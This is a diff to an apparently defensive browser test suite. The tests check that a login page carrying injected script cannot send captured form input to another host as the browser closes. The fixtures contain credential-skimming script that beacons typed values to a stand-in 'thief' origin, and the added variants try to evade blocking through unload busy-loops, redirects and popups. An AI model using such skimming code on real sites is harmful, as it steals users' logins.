@@ -173,18 +173,32 @@ for (const [what, script] of Object.entries(unreadable))
     },
   );
 
-test('what a page that stays sends as its browser closes reaches no other host', async ({
-  logInAt,
-  thief,
-}) => {
-  const script = `let kept;
-    ${onInput('if (value) kept = value;')}
-    document.forms[0].addEventListener('submit', (sent) => sent.preventDefault());
-    addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('${thief.origin}/', kept); });`;
-  await logInAt({ script, closes: true });
-  expect(thief.heard.filter((one) => one.startsWith('POST'))).toEqual([]);
-  expect(thief.heard.some((one) => one.startsWith('GET /after'))).toBe(true);
-});
+/** What a page that stays does as its browser closes, beside that it sends what it has kept. */
+const asItCloses = {
+  'at once': '',
+  'after it has been busy for long':
+    "addEventListener('beforeunload', () => { const from = Date.now(); while (Date.now() - from < 9000); });",
+  'from a page that it puts in its place':
+    "addEventListener('beforeunload', () => { if (kept) setTimeout(() => { location.href = '/again#' + kept; }); });",
+  'from a window that it opens':
+    "for (const event of ['beforeunload', 'pagehide', 'unload']) addEventListener(event, () => { if (kept) open('/again#' + kept); });",
+};
+
+for (const [how, also] of Object.entries(asItCloses))
+  test(
+    `what a page that stays sends as its browser closes reaches no other host: ${how}`,
+    longUnless(how === 'at once'),
+    async ({ logInAt, thief }) => {
+      const script = `let kept = location.hash.slice(1);
+        ${onInput('if (value) kept = value;')}
+        document.forms[0].addEventListener('submit', (sent) => sent.preventDefault());
+        addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('${thief.origin}/', kept); });
+        ${also}`;
+      await logInAt({ script, closes: true });
+      expect(thief.heard.filter((one) => one.startsWith('POST'))).toEqual([]);
+      expect(thief.heard.some((one) => one.startsWith('GET /after'))).toBe(true);
+    },
+  );
 
 test('a service worker that answers the login in place of the server takes it to no other host', async ({
   logInAt,
